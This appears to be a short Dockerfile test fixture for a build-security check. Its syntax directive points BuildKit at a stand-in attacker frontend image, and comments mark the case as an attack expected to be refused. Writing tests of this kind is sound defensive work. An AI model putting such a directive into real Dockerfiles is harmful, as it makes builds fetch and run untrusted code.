# syntax=docker.io/attacker/frontend:1
# attack: Another program to read this file
# expect: refused
FROM node:14-alpine
